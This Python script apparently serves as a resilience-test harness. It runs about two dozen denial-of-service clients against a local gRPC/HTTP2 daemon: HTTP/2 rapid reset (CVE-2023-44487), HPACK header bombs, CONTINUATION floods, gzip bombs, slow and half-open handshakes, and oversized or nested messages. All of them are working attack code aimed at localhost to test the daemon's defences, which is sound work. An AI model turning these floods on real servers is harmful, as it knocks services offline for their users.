#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""attacks.py - clients that mean harm, each a function that goes on until its time is over.

    attacks.py NAME PORT SECONDS

Each comes from an address of its own, 127.0.0.66 and on, so that the daemon can tell it from everybody
else. An attack that is shut out tries again at once, as an attacker does. It prints what it got done.
"""

import os
import socket
import ssl
import struct
import sys
import time

import h2

STATUS = "/credit.v1.StatusService/GetStatus"
WATCH = "/credit.v1.StatusService/WatchStatus"
BATCH = "/credit.v1.StatusService/BatchGetStatus"
SUBMIT = "/credit.v1.FilingService/Submit"
CHECKPOINT = "/credit.v1.TransparencyService/GetCheckpoint"
REFLECT = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
STREAMS = range(1, 2001, 2)  # as many as a connection was ever allowed

ATTACKS = {}


class Over(Exception):
    """The time is up."""


class Attack:
    def __init__(self, source, port, seconds):
        self.source, self.port, self.end, self.done, self.shut_out = (
            source, port, time.monotonic() + seconds, 0, 0)
        self.open = []

    def go_on(self):
        if time.monotonic() >= self.end:
            raise Over

    def connect(self, **options):
        """A greeted connection; a refused one is tried again until the time is over."""
        while True:
            self.go_on()
            try:
                return h2.Connection(self.port, self.source, **options)
            except OSError:
                self.shut_out += 1
                time.sleep(0.02)

    def plain(self):
        while True:
            self.go_on()
            try:
                return socket.create_connection(("127.0.0.1", self.port), 10, (self.source, 0))
            except OSError:
                self.shut_out += 1
                time.sleep(0.02)

    def keep(self, connection):
        self.open.append(connection)

    def wait(self):
        while True:
            self.go_on()
            time.sleep(0.05)


def attack(function):
    ATTACKS[function.__name__.replace("_", "-")] = function
    return function


def burst(attack_, make, **options):
    """Sends make(connection's next stream id) for ever, on a new connection when one is closed."""
    while True:
        connection = attack_.connect(**options)
        stream = 1
        try:
            while True:
                attack_.go_on()
                data, streams = make(stream)
                connection.send(data)
                attack_.done += 1
                stream += streams
                connection.take()
                if stream > 1 << 24:
                    break
        except OSError:
            attack_.shut_out += 1
        connection.close()


# --- connections ---------------------------------------------------------------------------------


@attack
def idle_connections(self):
    """As many connections as there is room for, that say nothing."""
    while True:
        self.keep(self.plain())
        self.done += 1
        self.go_on()
        if len(self.open) > 3000:
            self.wait()


@attack
def half_handshakes(self):
    """The first bytes of a TLS handshake, and then nothing."""
    hello = client_hello()
    while True:
        connection = self.plain()
        try:
            connection.sendall(hello[:200])
            self.done += 1
        except OSError:
            self.shut_out += 1
        self.keep(connection)
        self.go_on()
        if len(self.open) > 3000:
            self.wait()


@attack
def aborted_handshakes(self):
    """A whole ClientHello, so that the daemon computes, and a reset."""
    hello = client_hello()
    while True:
        connection = self.plain()
        try:
            connection.sendall(hello)
            connection.recv(1)
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            self.done += 1
        except OSError:
            self.shut_out += 1
        connection.close()
        self.go_on()


@attack
def handshakes(self):
    """Whole handshakes, one after the other."""
    while True:
        self.connect(greet=False).reset()
        self.done += 1


@attack
def slow_preface(self):
    """Connections whose greeting comes a byte at a time."""
    connections = []
    for _ in range(200):
        connections.append(self.connect(greet=False))
        self.done += 1
    for at in range(len(h2.PREFACE)):
        for connection in connections:
            self.go_on()
            try:
                connection.send(h2.PREFACE[at:at + 1])
            except OSError:
                self.shut_out += 1
        time.sleep(0.5)
    self.wait()


# --- frames --------------------------------------------------------------------------------------


@attack
def pings(self):
    burst(self, lambda stream: (h2.frame(h2.PING, 0, 0, b"harmless") * 500, 0))


@attack
def settings(self):
    burst(self, lambda stream: (h2.settings(window=65535) * 500, 0))


@attack
def rapid_reset(self):
    """Calls that are cancelled before they can be answered (CVE-2023-44487)."""
    reset = struct.pack(">I", h2.CANCEL)
    burst(self, lambda stream: (b"".join(
        h2.call(stream + 2 * i, STATUS, b"") + h2.frame(h2.RST_STREAM, 0, stream + 2 * i, reset)
        for i in range(100)), 200))


@attack
def window_updates(self):
    """Increments that overflow a stream's window, and none."""
    def make(stream):
        most = struct.pack(">I", 0x7fffffff)
        return (h2.headers(stream, BATCH) + h2.frame(h2.WINDOW_UPDATE, 0, stream, most) * 3 +
                h2.frame(h2.WINDOW_UPDATE, 0, stream, bytes(4)), 2)
    burst(self, make)


@attack
def empty_frames(self):
    """DATA frames with nothing in them, priorities, and frames that nobody knows."""
    def make(stream):
        return (h2.headers(stream, BATCH) + h2.frame(h2.DATA, 0, stream) * 200 +
                h2.frame(h2.PRIORITY, 0, stream, bytes(5)) * 200 + h2.frame(0xbe, 0, 0, b"?") * 200,
                2)
    burst(self, make)


# --- headers -------------------------------------------------------------------------------------


@attack
def large_metadata(self):
    burst(self, lambda stream: (h2.headers(stream, STATUS, (b"x-large", b"x" * 16000)) +
                                h2.frame(h2.DATA, h2.END_STREAM, stream, h2.message(b"")), 2))


@attack
def header_bomb(self):
    """4 KB put into the dynamic table, and then named thousands of times a block."""
    entry = b"\x40" + h2.text(b"x") + h2.text(b"x" * 4000)  # indexed from now on: number 62
    def make(stream):
        block = h2.request(STATUS) + entry + b"\xbe" * 12000
        return h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, block), 2
    burst(self, make)


@attack
def endless_header(self):
    """One string of a gigabyte in a header that goes on in CONTINUATION frames."""
    while True:
        connection = self.connect()
        try:
            start = h2.request(STATUS) + b"\x00" + h2.text(b"x") + h2.integer(1 << 30, 7)
            connection.send(h2.frame(h2.HEADERS, 0, 1, start))
            more = h2.frame(h2.CONTINUATION, 0, 1, b"x" * 16384)
            while True:
                self.go_on()
                connection.send(more)
                self.done += 1
                connection.take()
        except OSError:
            self.shut_out += 1
        connection.close()


@attack
def many_continuations(self):
    """A header of a million small fields."""
    while True:
        connection = self.connect()
        try:
            connection.send(h2.frame(h2.HEADERS, 0, 1, h2.request(STATUS)))
            more = h2.frame(h2.CONTINUATION, 0, 1, h2.literal(b"a", b"b") * 3000)
            while True:
                self.go_on()
                connection.send(more)
                self.done += 1
                connection.take()
        except OSError:
            self.shut_out += 1
        connection.close()


# --- messages ------------------------------------------------------------------------------------


@attack
def declared_sizes(self):
    """Messages that say that they have four gigabytes, or ten million bytes."""
    def make(stream):
        return b"".join(
            h2.headers(stream + 2 * i, SUBMIT) +
            h2.frame(h2.DATA, h2.END_STREAM, stream + 2 * i,
                     h2.message(b"x" * 1000, declared=(0xffffffff, 10000000)[i % 2]))
            for i in range(20)), 40
    burst(self, make)


@attack
def nested_messages(self):
    """Groups and messages in messages, to every depth that fits."""
    nested = b""
    while len(nested) < 40000:
        nested = b"\x0a" + _varint(len(nested)) + nested
    bodies = (nested, b"\x0b" * 30000, b"\x0a\x02" * 15000)
    def make(stream):
        body = bodies[stream // 2 % 3]
        data = h2.message(body)
        pieces = [data[at:at + 16384] for at in range(0, len(data), 16384)]
        return h2.headers(stream, SUBMIT) + b"".join(
            h2.frame(h2.DATA, h2.END_STREAM if piece is pieces[-1] else 0, stream, piece)
            for piece in pieces), 2
    burst(self, make)


@attack
def gzip_bombs(self):
    """Zeros, compressed a thousandfold."""
    import gzip
    bomb = gzip.compress(bytes(8 << 20))
    def make(stream):
        return (h2.headers(stream, SUBMIT, (b"grpc-encoding", b"gzip")) +
                h2.frame(h2.DATA, h2.END_STREAM, stream, h2.message(bomb, compressed=1)), 2)
    burst(self, make)


@attack
def unfinished_messages(self):
    """On every stream all of a large message but its last byte."""
    size = 8 << 20
    piece = b"x" * 16384
    while True:
        connection = self.connect()
        connection.socket.settimeout(1)
        self.keep(connection)
        try:
            for stream in STREAMS:
                connection.send(h2.headers(stream, SUBMIT) +
                                h2.frame(h2.DATA, 0, stream, h2.message(b"x" * 1000, declared=size)))
            for _ in range(size // len(piece) - 1):
                for stream in STREAMS:
                    self.go_on()
                    connection.send(h2.frame(h2.DATA, 0, stream, piece))
                    self.done += len(piece)
                    connection.take()
        except OSError:
            self.shut_out += 1


# --- calls ---------------------------------------------------------------------------------------


@attack
def idle_streams(self):
    """Streams that are opened and never used, on many connections."""
    while True:
        connection = self.connect()
        self.keep(connection)
        try:
            for stream in STREAMS:
                connection.send(h2.headers(stream, BATCH if stream % 4 == 1 else STATUS))
                self.done += 1
                self.go_on()
            connection.take()
        except OSError:
            self.shut_out += 1


@attack
def idle_watches(self):
    """Streams that the service keeps for as long as the client likes."""
    while True:
        connection = self.connect()
        self.keep(connection)
        try:
            for stream in STREAMS:
                connection.send(h2.call(stream, WATCH, b""))
                self.done += 1
                self.go_on()
            connection.take()
        except OSError:
            self.shut_out += 1


@attack
def unread_answers(self):
    """Calls with large answers, of which not a byte is taken."""
    body = h2.message(b"\x3a\x00")  # reflection: list_services
    while True:
        connection = self.connect(window=0)
        self.keep(connection)
        try:
            for stream in STREAMS[::2]:
                connection.send(h2.headers(stream, REFLECT) +
                                h2.frame(h2.DATA, 0, stream, body) +
                                h2.call(stream + 2, CHECKPOINT, b""))
                self.done += 2
                self.go_on()
            connection.take()
        except OSError:
            self.shut_out += 1


@attack
def floods(self):
    """As many calls as the wire takes, from one connection."""
    def make(stream):
        return b"".join(h2.call(stream + 2 * i, CHECKPOINT, b"") for i in range(50)), 100
    burst(self, make)


@attack
def noise(self):
    """What no frame is."""
    while True:
        connection = self.connect()
        try:
            connection.send(os.urandom(20000))
            self.done += 1
            connection.take()
        except OSError:
            self.shut_out += 1
        connection.close()


# --- running -------------------------------------------------------------------------------------


def _varint(value):
    out = b""
    while value >= 0x80:
        out += bytes([value & 0x7f | 0x80])
        value >>= 7
    return out + bytes([value])


def client_hello():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def main():
    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    attack_ = Attack(f"127.0.0.{66 + list(ATTACKS).index(name)}", port, seconds)
    try:
        ATTACKS[name](attack_)
    except Over:
        pass
    print(f"{attack_.done} done, {attack_.shut_out} times shut out", flush=True)


if __name__ == "__main__":
    main()
